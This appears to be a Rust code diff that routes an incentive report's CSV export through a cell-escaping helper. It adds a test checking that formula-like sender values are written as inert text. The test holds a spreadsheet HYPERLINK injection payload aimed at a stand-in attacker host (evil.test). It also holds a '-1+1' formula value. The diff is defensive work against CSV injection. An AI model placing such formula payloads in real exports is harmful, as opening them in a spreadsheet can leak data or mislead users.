@@ -411,22 +411,31 @@ impl IncentiveReport {
     /// row per sender with the period and the weight repeated, so each row
     /// stands alone when pasted elsewhere.
     pub fn csv(&self) -> String {
-        let mut out = String::from(
-            "period,sender,handoffs,mean_score,first_pass,first_pass_rate,quality,multiplier,weight\n",
-        );
+        let mut out = crate::csv_cells::header(&[
+            "period",
+            "sender",
+            "handoffs",
+            "mean_score",
+            "first_pass",
+            "first_pass_rate",
+            "quality",
+            "multiplier",
+            "weight",
+        ]);
         for s in &self.senders {
-            out.push_str(&format!(
-                "{},{},{},{:.2},{},{:.4},{:.4},{:.4},{}\n",
-                self.period,
-                s.sender,
-                s.handoffs,
-                s.mean_score,
-                s.first_pass,
-                s.first_pass_rate,
-                s.quality,
-                s.multiplier,
-                self.weight
-            ));
+            out.push_str(
+                &crate::csv_cells::Row::new()
+                    .text(self.period.to_string())
+                    .text(s.sender.as_str())
+                    .number(s.handoffs)
+                    .fixed(s.mean_score, 2)
+                    .number(s.first_pass)
+                    .fixed(s.first_pass_rate, 4)
+                    .fixed(s.quality, 4)
+                    .fixed(s.multiplier, 4)
+                    .number(self.weight)
+                    .line(),
+            );
         }
         out
     }
@@ -464,5 +473,46 @@ impl App {
             definition: INCENTIVE_DEFINITION,
             senders: baton_domain::incentive::incentives(&handoffs, start, end, weight),
         })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use baton_domain::Email;
+    use baton_domain::incentive::SenderIncentive;
+
+    #[test]
+    fn the_incentive_csv_writes_a_formula_like_sender_as_text() {
+        let evil = r#"=hyperlink("http://evil.test?x",1)@evil.test"#;
+        let line = |sender: &str| SenderIncentive {
+            sender: Email::parse(sender).unwrap_or_else(|e| panic!("{e}")),
+            handoffs: 2,
+            mean_score: 75.0,
+            first_pass: 1,
+            first_pass_rate: 0.5,
+            quality: 0.625,
+            multiplier: 1.05,
+        };
+        let report = IncentiveReport {
+            period: "2026-10".parse().unwrap_or_else(|e| panic!("{e}")),
+            weight: 0.2,
+            definition: INCENTIVE_DEFINITION,
+            senders: vec![line(evil), line("-1+1@evil.test"), line("ae1@acme.test")],
+        };
+        let csv = report.csv();
+        let rows: Vec<&str> = csv.lines().collect();
+        assert_eq!(
+            rows[1],
+            r#"2026-10,"'=hyperlink(""http://evil.test?x"",1)@evil.test",2,75.00,1,0.5000,0.6250,1.0500,0.2"#
+        );
+        assert_eq!(
+            rows[2],
+            "2026-10,'-1+1@evil.test,2,75.00,1,0.5000,0.6250,1.0500,0.2"
+        );
+        assert_eq!(
+            rows[3],
+            "2026-10,ae1@acme.test,2,75.00,1,0.5000,0.6250,1.0500,0.2"
+        );
     }
 }
